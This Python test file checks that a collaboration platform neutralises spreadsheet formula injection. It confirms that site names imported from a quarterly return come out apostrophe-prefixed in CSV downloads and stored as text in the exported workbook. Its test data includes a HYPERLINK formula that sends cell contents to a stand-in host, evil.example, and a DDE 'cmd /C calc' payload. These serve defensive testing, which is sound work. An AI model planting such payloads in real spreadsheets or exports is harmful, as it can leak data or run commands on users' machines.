"""A name that would start a spreadsheet formula, brought in by a return, is never a live formula
in anything the platform writes: every CSV download starts such a cell with an apostrophe, and
the exported workbook holds it as text."""

from __future__ import annotations

import base64
import csv
import io
import json
from typing import Any

import pytest
from openpyxl import load_workbook

from collab_api.app import create_app
from collab_api.db.graph import Graph
from collab_api.domain.text import FORMULA_STARTS, formula_safe
from collab_api.qart.layout import ADULT_PAEDS
from tests.qart_workbooks import site_row, workbook_bytes
from tests.web import PageClient

pytestmark = pytest.mark.usefixtures("network")

NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "=1+1"]
IMPORT = """mutation($file: Upload!) { importQuarterlyReturn(file: $file, quarter: "2025/26 Q2", dryRun: false) {
    errors { field code message } summary { sitesCreated { site } } } }"""


def _as_text_cells(data: bytes) -> bytes:
    """The workbook with every name cell held as text, as a typed '=...' name is in a real return."""
    book = load_workbook(io.BytesIO(data))
    for row in book[ADULT_PAEDS.name].iter_rows(min_row=7, min_col=3, max_col=5):
        for cell in row:
            if isinstance(cell.value, str) and cell.value in NAMES:
                cell.data_type = "s"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_formula_safe_neutralises_each_start_and_nothing_else() -> None:
    for start in FORMULA_STARTS:
        assert formula_safe(f"{start}x") == f"'{start}x"
    assert formula_safe("Site 1 - North") == "Site 1 - North" and formula_safe(-3) == -3 and formula_safe(None) is None


async def test_csv_downloads_and_the_workbook_hold_formula_text_as_text(client: Any, tokens: Any, settings: Any,
                                                                       graph: Graph) -> None:
    [trust] = await graph.read("""MATCH (t:Organisation {odsCode: 'Z06'})-[:IN_ICB]->(:ICB)<-[:COVERS]-(c:Collaborative)
                                  RETURN c.code AS collaborative""")
    rows = [site_row("Z06", f"Z06{90 + n}", {"G": "Stage 1 - Knowledge", "H": "Stage 2 - Awareness"}, phase=1, site_name=name,
                     trust_name=name) for n, name in enumerate(NAMES)]
    response = await client.post("/graphql", data={
        "operations": json.dumps({"query": IMPORT, "variables": {"file": None}}), "map": json.dumps({"0": ["variables.file"]})},
        files={"0": ("return.xlsx", _as_text_cells(workbook_bytes({ADULT_PAEDS.name: rows})), "application/octet-stream")},
        headers={"authorization": f"Bearer {tokens('NATIONAL')}"})
    payload = response.json()["data"]["importQuarterlyReturn"]
    assert payload["errors"] == [] and len(payload["summary"]["sitesCreated"]) == len(NAMES)

    async with PageClient(create_app(settings, graph=graph)) as pages:
        await pages.sign_in("NATIONAL")
        downloads = [f"/interventions/marthas-rule/spread/{t}.csv?quarter=2025/26 Q2&atOrBelowStage=3"
                     for t in ("byCollaborative", "timeSeries", "sitesAtOrBelow", "sitesNotReported", "movement")]
        downloads += [f"/interventions/marthas-rule/quarterly-report/{t}.csv?quarter=2025/26 Q2"
                      for t in ("sitesByPhase", "sitesByCollaborative", "stageTables", "sitesAtOrBelow",
                                "sitesAtStage6OnAllComponents", "answers", "sitesWithNoData")]
        seen = set()
        for path in downloads:
            got = await pages.get(path)
            assert got.status_code == 200, (path, got.text[:300])
            for row in csv.reader(io.StringIO(got.text)):
                for cell in row:
                    assert not cell.startswith(FORMULA_STARTS), (path, cell)
                    seen.update(name for name in NAMES if cell == "'" + name)
        assert seen == set(NAMES), "the names reached the CSVs, neutralised"

    book = (await client.post("/graphql", json={"query": """query($c: String!) { quarterlyReturnWorkbook(collaborative: $c,
        quarter: "2025/26 Q3", prefill: true) { contentBase64 } }""", "variables": {"c": trust["collaborative"]}},
        headers={"authorization": f"Bearer {tokens('NATIONAL')}"})).json()["data"]["quarterlyReturnWorkbook"]
    sheet = load_workbook(io.BytesIO(base64.b64decode(book["contentBase64"])))[ADULT_PAEDS.name]
    written = {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row if cell.value in NAMES}
    assert set(written) == set(NAMES) and set(written.values()) == {"s"}, written
    assert not any(cell.data_type == "f" for row in sheet.iter_rows(min_row=7) for cell in row)
